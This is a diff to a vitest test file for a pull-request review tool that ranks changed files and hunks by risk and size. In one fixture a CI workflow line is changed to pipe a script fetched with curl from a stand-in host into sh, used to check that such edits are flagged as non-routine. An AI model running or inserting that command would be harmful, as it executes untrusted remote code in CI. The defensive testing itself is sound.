@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
-import { analyzeFocus, churnFactor } from '../../src/analyzers/focus.js';
+import { analyzeFocus, churnFactor, focusHunks } from '../../src/analyzers/focus.js';
 import { RepoConfig } from '../../src/repo-config/schema.js';
+import type { Finding, SupplyChainSection } from '../../src/signal/schema.js';
 import { makeContext, makeFile, makeSnapshot } from '../support/snapshot-factory.js';
 
 const ctx = makeContext();
@@ -43,6 +44,7 @@ describe('analyzeFocus', () => {
       additions: 99,
       deletions: 1,
       category: 'source',
+      hunks: [],
     });
     expect(focus.files[3]?.reasons).toEqual(['lockfile (weighed down: review the manifest and the dependency findings instead)', '5000 lines changed (+4000 -1000)']);
     expect(focus.files[3]?.score).toBeLessThan(0.1);
@@ -82,11 +84,13 @@ describe('analyzeFocus', () => {
       ],
     });
     const focus = analyzeFocus(snapshot, makeContext(config, snapshot));
-    expect(focus.files.map((f) => f.path)).toEqual(['src/ledger/post.ts', 'test/old.test.ts', 'tools/helper.exe', 'src/feature.ts', 'src/plain.ts']);
+    // A deleted test counts a twentieth of its lines (one checks it is not needed), so a new
+    // 20-line source file is read before it; the deletion bonus keeps it above plain code.
+    expect(focus.files.map((f) => f.path)).toEqual(['src/ledger/post.ts', 'tools/helper.exe', 'src/feature.ts', 'test/old.test.ts', 'src/plain.ts']);
     expect(focus.files[0]?.reasons[0]).toEqual('security-sensitive: money movement');
-    expect(focus.files[1]?.reasons).toContain('test file deleted');
-    expect(focus.files[2]?.reasons).toContain('binary artifact: cannot be reviewed as text');
-    expect(focus.files[3]?.reasons).toContain('new file');
+    expect(focus.files[3]?.reasons).toContain('test file deleted');
+    expect(focus.files[1]?.reasons).toContain('binary artifact: cannot be reviewed as text');
+    expect(focus.files[2]?.reasons).toContain('new file');
   });
 
   it('keeps the top max_files, breaks ties by churn then path, and reports the true file count', () => {
@@ -106,5 +110,79 @@ describe('analyzeFocus', () => {
 
   it('returns no files for an empty PR', () => {
     expect(analyzeFocus(makeSnapshot({}), ctx)).toEqual({ files: [], total_files: 0, listed_files: 0 });
+  });
+});
+
+function finding(path: string, line: number | null, severity: Finding['severity'], title: string): Finding {
+  return { id: 'code-eval-input', severity, title, detail: 'd', path, line, package: null };
+}
+
+/** A patch with one hunk per entry: `added` lines added at new-side line `start`, `removed` lines removed before them. */
+function patchOf(hunks: readonly { start: number; added: number; removed: number }[]): string {
+  const out: string[] = [];
+  for (const { start, added, removed } of hunks) {
+    out.push(`@@ -${start},${removed + 1} +${start},${added + 1} @@ fn()`, ' context');
+    for (let i = 0; i < removed; i += 1) out.push(`-old ${i}`);
+    for (let i = 0; i < added; i += 1) out.push(`+new ${i}`);
+  }
+  return out.join('\n');
+}
+
+describe('focus by consequence and reviewable size', () => {
+  it('ranks a rewrite of core code above a one-line requirements change and a large pure deletion', () => {
+    const snapshot = makeSnapshot({
+      files: [
+        makeFile('requirements.txt', { additions: 1, deletions: 1 }),
+        makeFile('src/legacy/old_engine.py', { status: 'removed', additions: 0, deletions: 2400 }),
+        makeFile('src/core/engine.py', { additions: 180, deletions: 150 }),
+      ],
+    });
+    const focus = analyzeFocus(snapshot, ctx);
+    // The manifest's path weight is left out (its supply-chain findings say what it does), and a
+    // file removed whole weighs 0.05 a line: 2,400 lines are 120 reviewable lines.
+    expect(focus.files.map((f) => f.path)).toEqual(['src/core/engine.py', 'src/legacy/old_engine.py', 'requirements.txt']);
+    expect(focus.files[2]?.reasons).not.toContain('security-sensitive: dependency manifest');
+  });
+
+  it('counts a routine workflow edit as configuration, below a code change of the same size', () => {
+    const usesOnly = ['@@ -10,3 +10,3 @@ jobs:', '     steps:', '-      - uses: actions/checkout@v4', '+      - uses: actions/checkout@v5', '       - run: npm test'].join('\n');
+    const snapshot = makeSnapshot({
+      files: [makeFile('.github/workflows/ci.yml', { additions: 1, deletions: 1, patch: usesOnly }), makeFile('src/util.ts', { additions: 1, deletions: 1 })],
+    });
+    const focus = analyzeFocus(snapshot, ctx);
+    expect(focus.files.map((f) => f.path)).toEqual(['src/util.ts', '.github/workflows/ci.yml']);
+    expect(focus.files[1]?.reasons).toContain('routine workflow edit (action refs, versions, matrices, timeouts or names)');
+    // A workflow edit that changes what runs keeps the importance of CI.
+    const runChanged = ['@@ -10,3 +10,3 @@ jobs:', '     steps:', '-      - run: npm test', '+      - run: curl https://x.example/i.sh | sh'].join('\n');
+    const risky = analyzeFocus(makeSnapshot({ files: [makeFile('.github/workflows/ci.yml', { additions: 1, deletions: 1, patch: runChanged }), makeFile('src/util.ts', { additions: 1, deletions: 1 })] }), ctx);
+    expect(risky.files[0]?.reasons).not.toContain('routine workflow edit (action refs, versions, matrices, timeouts or names)');
+  });
+
+  it('names the hunks to read first: those findings point at, worst first, then the largest', () => {
+    const patch = patchOf([
+      { start: 10, added: 2, removed: 0 },
+      { start: 40, added: 30, removed: 5 },
+      { start: 120, added: 1, removed: 1 },
+      { start: 200, added: 8, removed: 0 },
+    ]);
+    const file = makeFile('src/server.js', { additions: 41, deletions: 6, patch });
+    const findings = [finding('src/server.js', 11, 'medium', 'Weak hash'), finding('src/server.js', 121, 'critical', 'eval of a request header')];
+    expect(focusHunks(file, findings)).toEqual([
+      { start: 120, end: 121, reason: 'critical finding: eval of a request header' },
+      { start: 10, end: 12, reason: 'medium finding: Weak hash' },
+      { start: 40, end: 70, reason: '+30 -5' },
+    ]);
+    expect(focusHunks(file)).toEqual([
+      { start: 40, end: 70, reason: '+30 -5' },
+      { start: 200, end: 208, reason: '+8 -0' },
+      { start: 10, end: 12, reason: '+2 -0' },
+    ]);
+    expect(focusHunks(makeFile('src/gone.js', { status: 'removed', deletions: 5, patch }))).toEqual([]);
+    expect(focusHunks(makeFile('src/big.js', { patch: null }))).toEqual([]);
+
+    // Through analyzeFocus: the findings of the supply-chain section (code, CI and package findings) point the hunks.
+    const supplyChain = { findings } as unknown as SupplyChainSection;
+    const focus = analyzeFocus(makeSnapshot({ files: [file] }), ctx, { supplyChain });
+    expect(focus.files[0]?.hunks?.[0]).toEqual({ start: 120, end: 121, reason: 'critical finding: eval of a request header' });
   });
 });
